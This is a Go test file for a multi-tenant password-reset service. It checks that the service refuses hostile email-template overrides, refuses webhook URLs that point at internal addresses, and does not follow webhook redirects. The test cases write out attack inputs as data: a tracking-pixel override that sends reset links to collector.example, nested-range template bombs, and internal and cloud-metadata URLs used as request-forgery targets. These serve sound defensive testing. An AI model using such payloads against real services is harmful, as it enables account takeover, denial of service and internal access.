package app_test

import (
	"context"
	"crypto/x509"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/resetd/resetd/internal/app"
	"github.com/resetd/resetd/internal/auth"
)

// Issue 15's hostile overrides, through the API: each is a 400 that names
// the construct and where it stands, and nothing of it is stored (the
// settings read back as before, and the reset mail keeps its wording).
func TestHostileTemplateOverrides(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	tok := h.admin()
	path := P + "/institutions/acme/settings"
	before := h.do("GET", path, tok, nil)
	tests := []struct {
		name string
		over map[string]string
		want []string
	}{
		{"a range that froze every tenant", map[string]string{"reset_link.email.subject": "{{range 200000000}}{{end}}"}, []string{"range is not allowed", "at line 1, column 1:"}},
		{"a conditional that rendered 4.3 GiB", map[string]string{"reset_link.email.text": "{{.Link}}\n{{if .Link}}{{range 9999}}{{range 9999}}{{.Link}}{{end}}{{end}}{{end}}"}, []string{"range is not allowed", "at line 2, column 13:"}},
		{"a tracking pixel that leaked the link", map[string]string{"reset_link.email.html": `<p><a href="{{.Link}}">Reset</a></p><img src="https://collector.example/p.gif?l={{.Link}}">`}, []string{"https://collector.example/p.gif?l=", "linkBases"}},
		{"a function call", map[string]string{"otp.sms.text": `{{printf "%s" .Code}}`}, []string{`function call \"printf\"`}},
		{"a define", map[string]string{"otp.email.text": `{{define "x"}}{{end}}{{.Code}}`}, []string{"define is not allowed"}},
		{"a with", map[string]string{"otp.email.text": `{{with .Code}}{{.}}{{end}}`}, []string{"with is not allowed"}},
		{"an oversized override", map[string]string{"otp.email.text": strings.Repeat("x", 16<<10+1)}, []string{"at most 16384"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := h.do("PUT", path, tok, map[string]any{"templates": tc.over})
			if r.Status != 400 {
				t.Fatalf("PUT: %d %s, want 400", r.Status, r.Body)
			}
			body := string(r.Body)
			for _, w := range append(tc.want, `"field":"templates"`) {
				if !strings.Contains(body, w) {
					t.Errorf("problem %s does not say %q", body, w)
				}
			}
		})
	}
	if after := h.do("GET", path, tok, nil); string(after.Body) != string(before.Body) {
		t.Errorf("settings changed by refused PUTs:\n%s\n%s", before.Body, after.Body)
	}
	h.putUser(tok, "acme", "u", map[string]any{"username": "u", "email": "u@example.com"})
	h.resetLink(tok, "acme", "u")
	if got := h.mail.Messages()[0].Subject; got != "Reset your Acme Bank password" {
		t.Errorf("subject %q after refused overrides", got)
	}

	// The attack next door: the link bases the URL check reads are
	// changed later, by the settings PUT, so the overrides are checked
	// again then.
	h.putSettings(tok, map[string]any{
		"linkBases": []string{"https://collector.example/reset"},
		"templates": map[string]string{"reset_link.email.html": `<p><a href="{{.Link}}">Reset</a> <img src="https://collector.example/reset/p.gif"></p>`},
	})
	if r := h.do("PUT", path, tok, map[string]any{"linkBases": []string{"https://reset.acme.example/reset"}}); r.Status != 400 || !strings.Contains(string(r.Body), "https://collector.example/reset/p.gif") {
		t.Errorf("link bases changed under an override that names the old one: %d %s", r.Status, r.Body)
	}
}

// webhookURLs to inside addresses are refused at the settings PUT unless
// the operator allowed them, and nothing is stored.
func TestWebhookURLsCannotReachInside(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	tok := h.admin()
	path := P + "/institutions/acme/settings"
	for _, u := range []string{
		"https://127.0.0.1/hook", "https://10.0.0.1/hook", "https://169.254.169.254/latest/meta-data",
		"https://[::1]/hook", "https://[fd00::1]/hook", "https://localhost:8443/hook",
		"http://93.184.215.14/hook", // plain http to the outside
	} {
		t.Run(u, func(t *testing.T) {
			r := h.do("PUT", path, tok, map[string]any{"webhookUrl": u})
			if r.Status != 400 || !strings.Contains(string(r.Body), `"field":"webhookUrl"`) {
				t.Errorf("PUT webhookUrl %s: %d %s, want 400 on webhookUrl", u, r.Status, r.Body)
			}
		})
	}
	if r := h.do("GET", path, tok, nil); r.json(t)["webhookUrl"] != "" {
		t.Errorf("a refused webhookUrl was stored: %s", r.Body)
	}

	allowed := newHarness(t, allowLoopbackWebhooks)
	if r := allowed.do("PUT", path, allowed.admin(), map[string]any{"webhookUrl": "http://127.0.0.1:9/hook"}); r.Status != 204 {
		t.Errorf("with --webhook-allow 127.0.0.0/8: %d %s", r.Status, r.Body)
	}
}

// A receiver answering 307 gets the one POST of the attempt; the target
// of the redirect never sees the signed event.
func TestWebhookRedirectIsNotFollowed(t *testing.T) {
	t.Parallel()
	var targetHits atomic.Int32
	target := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { targetHits.Add(1) }))
	t.Cleanup(target.Close)
	posts := make(chan struct{}, 10)
	redirector := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, target.URL+"/internal/admin", http.StatusTemporaryRedirect)
		posts <- struct{}{}
	}))
	t.Cleanup(redirector.Close)
	pool := x509.NewCertPool()
	pool.AddCert(redirector.Certificate())
	h := newHarness(t, allowLoopbackWebhooks, func(c *app.Config) { c.WebhookRootCAs = pool })
	tok := h.admin()
	h.putSettings(tok, map[string]any{"webhookUrl": redirector.URL + "/hook"})
	h.putUser(tok, "acme", "u", map[string]any{"username": "u", "email": "u@example.com"})
	h.resetLink(tok, "acme", "u")
	await(t, posts, "the receiver's POST")
	h.awaitLog("webhook answered a redirect, not followed")
	if n := targetHits.Load(); n != 0 {
		t.Errorf("the redirect target got %d requests", n)
	}
	if n := len(posts); n != 0 {
		t.Errorf("the receiver got %d more POSTs within the attempt", n)
	}
}

// With tenant A's receiver hanging on the reset.requested events of 150
// resets, tenant B's reset email still reaches the SMTP server promptly:
// events have their own queue, and A holds only a few of its workers.
func TestHangingWebhookDelaysNoOtherTenant(t *testing.T) {
	t.Parallel()
	release := make(chan struct{})
	arrived := make(chan struct{}, 1)
	var inFlight, most atomic.Int32 // A's events at its receiver, now and at most
	hang := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// Reading the body lets the server notice when the attempt gives
		// up (its context ends), so inFlight counts live attempts only.
		_, _ = io.Copy(io.Discard, r.Body)
		n := inFlight.Add(1)
		defer inFlight.Add(-1)
		for m := most.Load(); n > m && !most.CompareAndSwap(m, n); m = most.Load() {
		}
		select {
		case arrived <- struct{}{}:
		default:
		}
		select {
		case <-release:
		case <-r.Context().Done(): // the attempt timed out: retried later
		}
	}))
	pool := x509.NewCertPool()
	pool.AddCert(hang.Certificate())
	// Few message workers: before webhooks had a queue of their own, A's
	// hanging events took every one of them.
	h := newHarness(t, allowLoopbackWebhooks, func(c *app.Config) { c.WebhookRootCAs, c.QueueWorkers = pool, 20 })
	t.Cleanup(hang.Close)
	t.Cleanup(func() { close(release) }) // before the harness stops
	tok := h.admin()
	h.putSettings(tok, map[string]any{"webhookUrl": hang.URL + "/hook", "sendsPerUserHour": 1000})
	h.putUser(tok, "acme", "a", map[string]any{"username": "a", "email": "a@example.com"})
	for i := range 150 {
		if r := h.do("POST", P+"/institutions/acme/users/a/password/reset", tok, map[string]string{"method": "email"}); r.Status != 200 {
			t.Fatalf("reset %d of tenant A: %d %s", i, r.Status, r.Body)
		}
	}
	h.waitMail(150)
	await(t, arrived, "tenant A's events at its receiver") // A's receiver holds events now

	id, secret, err := h.app.Auth.CreateClient(context.Background(), "other", "admin", auth.AllScopes)
	if err != nil {
		t.Fatal(err)
	}
	btok := h.tokenFor(id, secret)
	h.putUser(btok, "other", "b", map[string]any{"username": "b", "email": "b@example.com"})
	start := time.Now()
	if r := h.do("POST", P+"/institutions/other/users/b/password/reset", btok, map[string]string{"method": "email"}); r.Status != 200 {
		t.Fatalf("reset of tenant B: %d %s", r.Status, r.Body)
	}
	msgs := h.waitMail(151)
	took := time.Since(start)
	if to := msgs[150].To; len(to) != 1 || to[0] != "b@example.com" {
		t.Fatalf("151st message went to %v", to)
	}
	t.Logf("tenant B's reset email reached SMTP in %v while %d of A's events hang", took, inFlight.Load())
	if took > 2*time.Second {
		t.Errorf("tenant B's reset email took %v behind tenant A's hanging receiver, want under 2 s", took)
	}
	if n := most.Load(); n > 4 {
		t.Errorf("tenant A's events held %d connections at once, want at most 4", n)
	}
}

func await(t *testing.T, ch <-chan struct{}, what string) {
	t.Helper()
	select {
	case <-ch:
	case <-time.After(30 * time.Second):
		t.Fatalf("no %s", what)
	}
}
